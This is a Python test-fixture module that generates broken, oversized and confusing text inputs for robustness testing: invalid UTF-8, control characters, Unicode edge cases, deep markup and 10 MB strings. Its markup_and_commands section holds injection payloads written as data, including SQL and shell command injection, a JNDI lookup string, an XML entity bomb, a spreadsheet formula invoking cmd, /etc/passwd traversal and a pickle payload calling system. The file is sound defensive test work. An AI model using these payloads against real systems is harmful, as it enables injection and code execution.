"""Texts that are broken, long or made to confuse: generators of (name, bytes)."""

import unicodedata
from collections.abc import Iterator

Item = tuple[str, bytes]


def not_utf8() -> Iterator[Item]:
    yield from (
        ("a byte that begins nothing", b"good \x80 film"),
        ("255 bytes", b"\xff" * 500),
        ("every byte", bytes(range(256))),
        ("latin-1", "très bon, naïf".encode("latin-1")),
        ("UTF-16 with its mark", "a good film".encode("utf-16")),
        ("UTF-16 without a mark", "a good film".encode("utf-16-be")),
        ("UTF-32", "a good film".encode("utf-32")),
        ("Shift JIS", "素晴らしい映画".encode("shift-jis")),
        ("high surrogate", b"a \xed\xa0\x80 b"),
        ("low surrogate", b"a \xed\xbf\xbf b"),
        ("surrogates as a pair (CESU-8)", b"\xed\xa0\xbd\xed\xb8\x80"),
        ("slash, over-long", b"\xc0\xaf \xe0\x80\xaf \xf0\x80\x80\xaf"),
        ("zero byte, over-long", b"a\xc0\x80b"),
        ("beyond the last code point", b"\xf4\x90\x80\x80 \xf7\xbf\xbf\xbf"),
        ("five and six bytes", b"\xf8\x88\x80\x80\x80 \xfc\x84\x80\x80\x80\x80"),
        ("character cut off at the end", "a good film 🙂".encode()[:-2]),
        ("character cut off at the start", "🙂 a good film".encode()[1:]),
        ("first bytes alone", b"\xe2\xe2\xe2 \xf0\xf0"),
        ("gzip", b"\x1f\x8b\x08\0\0\0\0\0\0\xff\xcb\xcf\x07\0"),
    )


def marks_and_controls() -> Iterator[Item]:
    for name, text in (
        ("byte-order mark alone", "\ufeff"),
        ("byte-order marks everywhere", "\ufeffgood\ufeff film\ufeff"),
        ("nothing", ""),
        ("a space", " "),
        ("white space of all kinds", "".join(c for c in map(chr, range(0x3001)) if c.isspace())),
        ("line ends", "\n\r\n\r\x85\u2028\u2029"),
        ("zero byte", "\0"),
        ("zero bytes between words", "good\0film\0"),
        ("all controls", "".join(map(chr, range(32))) + "\x7f\x80\x9f"),
        ("escape codes of a terminal", "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J"),
        ("backspaces", "bad\b\b\bgood"),
        ("separators of records", "a\x1cb\x1dc\x1ed\x1fe"),
        ("non-characters", "\ufffe \uffff \U0010ffff \ufdd0"),
        ("private use", "\ue000 \U000f0000 \U0010fffd"),
        ("not assigned", "\u0378 \U000e0fff"),
        ("replacement characters", "\ufffd" * 50),
        ("soft hyphens and joiners", "go\u00ado\u200dd\u200c fi\u2060lm"),
        ("tags", "flag \U0001f3f4\U000e0067\U000e0062\U000e007f"),
        ("separator of the subwords", "▁▁good▁film▁"),
        ("names of special tokens", "<padding> <start> <end> <unknown> <0x00> <0xFF> [UNK] </s>"),
    ):
        yield name, text.encode("utf-8", "surrogatepass")


def scripts() -> Iterator[Item]:
    for name, text in (
        ("Arabic", "فيلم رائع جدًا"),
        ("Hebrew with marks", "סֶרֶט טוֹב מְאוֹד"),
        ("text turned around", "good \u202emlif\u202c \u2066bad\u2069 \u200f!"),
        ("embeddings never closed", "\u202a\u202b\u202d\u202e\u2067" * 200 + "good"),
        ("Chinese", "这是一部很好的电影。" * 20),
        ("Japanese", "この映画は素晴らしいです。"),
        ("Korean, composed and not", "영화 " + unicodedata.normalize("NFD", "영화가 좋아요")),
        ("Thai", "หนังเรื่องนี้ดีมาก"),
        ("Devanagari", "यह फिल्म बहुत अच्छी है"),
        ("Cuneiform and hieroglyphs", "𒀀𒁀𒂀 𓀀𓁀𓂀"),
        ("mathematical letters", "𝐠𝐨𝐨𝐝 𝓯𝓲𝓵𝓶 ℊℴℴ𝒹"),
        ("wide letters", "ｇｏｏｄ　ｆｉｌｍ"),
        ("homoglyphs", "gооd fіlm, а mаstеrріесе"),  # Cyrillic о, і, а, е, р, с
        ("ligatures", "ﬁlm oﬀer ﬃ ﬆ"),
        ("letters that grow in lower case", "İ" * 100 + " ŉ ΐ ẞ"),
        ("final sigma", "ΣΑΣ ΟΔΥΣΣΕΥΣ"),
        ("Roman and other numbers", "Ⅻ ½ ² ٣ ৪ 〇 ⑳"),
        ("one letter, 4,000 marks", "a" + "\u0301" * 4000),
        ("marks without a letter", "\u0301\u0327\u20dd" * 500),
        ("Zalgo", "".join(c + "\u0300\u0316\u0334\u0360\u0489" * 10 for c in "this film")),
        ("one letter that composes and one that does not", "e\u0301 é q\u0301"),
        ("family", "👨‍👩‍👧‍👦 👩🏽‍🚀 🏳️‍🌈"),
        ("emoji joined 500 times", "\u200d".join("👩" * 500)),
        ("skin colours alone", "🏻🏼🏽🏾🏿"),
        ("flags", "🇩🇪🇫🇷🇨" * 50),
        ("keycaps", "1️⃣2️⃣#️⃣"),
        ("1,000 emoji", "🙂🙁" * 500),
    ):
        yield name, text.encode()


def markup_and_commands() -> Iterator[Item]:
    for name, text in (
        ("page", "<html><body onload='harm()'>good</body></html>"),
        ("tag never closed", "<" + "b" * 5000),
        ("10,000 opening brackets", "<" * 10_000),
        ("nested tags", "<b>" * 2000 + "x" + "</b>" * 2000),
        ("break never closed", "<br " * 3000),
        ("entities", "&lt;br&gt;&amp;amp;amp;lt;&#0;&#x110000;&#99999999;&bogus;&;&#;&#x;"),
        ("10,000 ampersands", "&" * 10_000 + "amp;" * 10_000),
        ("billion laughs", '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'),
        ("SQL", "'; DROP TABLE reviews; --"),
        ("shell", "$(touch harm) `touch harm` ; touch harm | sh"),
        ("format strings", "%s%s%n %(x)s {0} {__class__} ${jndi:ldap://x/a}"),
        ("regular expression", "(a+)+$ \\1 [[:alpha:]] (?i) \\p{L} \\x{110000}"),
        ("replacement", r"\0 \1 \2 \9 $1 \g<0>"),
        ("spreadsheet formula", "=cmd|' /C calc'!A0"),
        ("path", "../../../../etc/passwd"),
        ("absolute path", "/etc/passwd"),
        ("device", "/dev/zero"),
        ("address", "file:///etc/passwd http://[::1]:80/ javascript:alert(1)"),
        ("JSON", '{"text": ["a", {"b64": "//8="}], "a": 1e999, "b": NaN}'),
        ("JSON, deep", "[" * 5000 + "]" * 5000),
        ("pickle", "cos\nsystem\n(S'touch harm'\ntR."),
        ("quotation marks", "\"'“”‘’«»`´" * 300),
        ("10,000 commas", "," * 10_000),
        ("faces", ":) :-( :'( ;-D =] :))))))))))" + ")" * 5000),
        ("signs", "!?" * 5000 + "..." * 2000 + "--" * 2000),
        ("apostrophes", "n't's'll" * 2000),
        ("tabs", "good\tfilm\t\t\t"),
        ("one character", "a"),
        ("digits", "9" * 10_000),
        ("number that is huge", "1e400 -1e400 nan inf " + "1" + "0" * 400),
    ):
        yield name, text.encode()


def long_ones() -> Iterator[Item]:
    yield "a word of 200,000 letters", b"a" * 200_000
    yield "40,000 words", b"good film " * 20_000
    yield "200,000 spaces", b" " * 200_000
    yield "200,000 line ends", b"\n" * 200_000
    yield "100,000 bytes that are not UTF-8", b"\x80" * 100_000
    yield "50,000 emoji", "🙂".encode() * 50_000


def huge() -> Iterator[Item]:
    """10 MB each."""
    yield "10 MB of words", b"a good film, " * (10**7 // 13)
    yield "10 MB of one letter", b"a" * 10**7
    yield "10 MB that are not UTF-8", b"\xe2\x82" * (10**7 // 2)
    yield "10 MB of opening brackets", b"<" * 10**7


UTF8 = (marks_and_controls, scripts, markup_and_commands)


def short_texts() -> Iterator[Item]:
    for part in (not_utf8, *UTF8):
        yield from part()


def texts() -> Iterator[Item]:
    """All but the huge ones."""
    yield from short_texts()
    yield from long_ones()
